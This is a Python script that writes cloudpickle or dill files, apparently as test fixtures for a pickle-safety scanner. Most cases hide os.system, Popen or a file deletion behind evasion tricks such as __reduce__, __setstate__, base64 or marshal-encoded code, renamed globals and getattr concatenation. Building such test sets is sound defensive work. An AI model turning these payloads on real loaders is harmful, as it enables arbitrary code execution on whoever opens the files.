import sys, os, pickle, types, marshal, base64, functools, subprocess

which, out = sys.argv[1], sys.argv[2]
mod = __import__("cloudpickle" if which.startswith("cp") else "dill")


def save(name, v, **kw):
    try:
        open(f"{out}/{sys.version_info[0]}{sys.version_info[1]}_{which}_{name}.pkl", "wb").write(mod.dumps(v, **kw))
    except Exception as e:
        print(name, repr(e)[:150])


def fn(src, name="f", g=None):
    d = {"__name__": "__main__"}
    d.update(g or {})
    exec(src, d)
    return d[name]


save("import", fn("def f(x):\n import os\n os.system('id')\n return x"))
save("np_is_os", fn("def f(x): return np.system('id')", g={"np": os}), **({"recurse": True} if which[0] == "d" else {}))
save(
    "len_is_system",
    fn("def f(x): return len('id')", g={"len": os.system}),
    **({"recurse": True} if which[0] == "d" else {}),
)
save("closure_fn", fn("def mk(q):\n def f(x): return q('id')\n return f\n", "mk")(os.system))
save("closure_mod", fn("def mk(q):\n def f(x): return q.system('id')\n return f\n", "mk")(os))
save("default_mod", fn("def f(x, q=os): return q.system(x)", g={"os": os}))
save("kwdefault_mod", fn("def f(x, *, q=os): return q.system(x)", g={"os": os}))
f = fn("def f(x): return x")
f.__wrapped__ = os.system
save("wrapped", f)


class R:
    def __init__(s, f, *a):
        s.f = f
        s.a = a

    def __reduce__(s):
        return (s.f, s.a)


save("called_clean", R(fn("def f(): return 1")))
save("called_evil", R(fn("def f(): return __import__('os').system('id')")))
save("called_param", R(fn("def f(g,x): return g(x)"), print, "x"))
if sys.version_info >= (3, 10):
    save("match_attr", fn("def f(x):\n match x:\n  case object(system=s): return s('id')"))
save("kw", fn("def f(x): return x(system='id', Popen=1)"))
save("format", fn("def f(x): return '{0.__class__.__mro__}'.format(x)"))
save("format2", fn("def f(x): return '{0.system}'.format(x)"))
save(
    "exec_b64",
    fn(
        "def f(x):\n import base64\n exec(base64.b64decode(b'%s'))"
        % base64.b64encode(b"import os;os.system('id')").decode()
    ),
)
save("requests", fn("def f(x):\n import requests\n return requests.post(x)"))
save("sympy", fn("def f(x):\n import sympy\n return sympy.S(x)"))
save("unknownpkg", fn("def f(x):\n from mypkg.sub import thing\n return thing(x)"))
C = fn(
    "class f:\n def __setstate__(s,d):\n  import subprocess\n  subprocess.Popen(d)\n def __getstate__(s): return {'a':1}"
)
save("setstate", C())
C = fn("class f:\n def __del__(s):\n  import os\n  os.remove('x')")
save("del", C())
C = type("P", (subprocess.Popen,), {"__module__": "__main__", "__reduce__": lambda s: (P, ("id",))})
P = C


class RP:
    def __reduce__(s):
        return (C, ("id",))


try:
    save("popen_base", RP())
except Exception as e:
    print(e)
save("getattr", fn("def f(x): return getattr(x,'sys'+'tem')('id')"))
save(
    "marshal",
    fn(
        "def f(x):\n import types, marshal\n return types.FunctionType(marshal.loads(%r),{})()"
        % marshal.dumps(compile("import os;os.system('id')", "", "exec"))
    ),
)
f = fn("def f(x): return 'Q'('id')")
save(
    "const_fn",
    types.FunctionType(
        f.__code__.replace(co_consts=tuple(os.system if c == "Q" else c for c in f.__code__.co_consts)), {}
    ),
) if sys.version_info >= (3, 8) else 0
M = fn("class f(type):\n def __call__(c,*a):\n  import os\n  os.system('id')")
save("meta", M("X", (), {"__module__": "__main__"}))
save("partial", functools.partial(fn("def f(x):\n import os\n os.system(x)"), "id"))
save("subclasses", fn("def f(x): return [c for c in ().__class__.__base__.__subclasses__()]"))
save("globals", fn("def f(x): return f.__globals__['__builtins__']['eval'](x)"))
save("npload", fn("def f(x):\n import numpy as np\n return np.load(x, allow_pickle=True)"))
save("npos", fn("def f(x):\n import numpy as np\n return np.os.system(x)"))
save("torchload", fn("def f(x):\n import torch\n return torch.load(x)"))
save("pdread", fn("def f(x):\n import pandas as pd\n return pd.read_pickle(x)"))
save("jax", fn("def f(x):\n from numpy.testing import runstring\n runstring('import os', {})"))
